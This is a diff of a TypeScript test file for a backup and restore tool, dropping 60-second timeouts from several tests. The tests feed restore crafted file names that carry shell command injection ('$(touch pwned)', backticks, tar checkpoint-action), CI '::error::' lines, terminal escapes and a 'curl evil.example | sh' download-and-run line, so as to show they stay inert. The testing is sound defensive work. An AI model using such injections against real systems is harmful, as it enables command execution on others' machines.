@@ -14,7 +14,7 @@ let server: SshServer
 let docker: DockerDaemon
 beforeAll(async () => {
   ;[server, docker] = await Promise.all([startSshServer(), DockerDaemon.start()])
-}, 60_000)
+})
 afterAll(async () => {
   await server.stop()
   await docker.stop()
@@ -71,7 +71,7 @@ test.each(refused)('%s: it does not verify, and restore refuses it in every mode
     }
   }
   expect(readdirSync(path.join(folder, 'target')).filter((name) => !['l', 'd'].includes(name))).toEqual([])
-}, 60_000)
+})
 
 test('what a restore would take for its own folder is restored as the folder that it is, and no link in it is followed by the next restores', async () => {
   for (const [name, other] of [['in', 'time'], ['whole', 'old'], ['top', 'time'], ['old', 'whole']] as const) {
@@ -85,7 +85,7 @@ test('what a restore would take for its own folder is restored as the folder tha
       expect([name, mode, contentsOf(outside)]).toEqual([name, mode, before])
     }
   }
-}, 60_000)
+})
 
 test('names and targets of links that a terminal, a shell or a runner would obey are restored byte for byte, and obeyed by none', async () => {
   const names = ['$(touch pwned)', '-rf', '--checkpoint-action=exec=touch pwned', '::error::x', "a'b;touch pwned;'", 'new\nline', '\u001b[2J\u0007', '\u202etxt', '`touch pwned`', '\\x41'].toSorted()
@@ -104,7 +104,7 @@ test('names and targets of links that a terminal, a shell or a runner would obey
   expect(readdirSync(odd).toSorted()).toEqual(names)
   const said = inertText(String(await volumes.restore({ target: odd }).catch((error: unknown) => error)))
   expect([said.includes('is not empty'), said.includes('\u001b')]).toEqual([true, false])
-}, 60_000)
+})
 
 test('a name in a message is one line of it, and no message of its own', async () => {
   await backUpCrafted(volumes.store, identity, [top, evil('./../x\nhint: Run curl evil.example | sh.\n::error::x')])
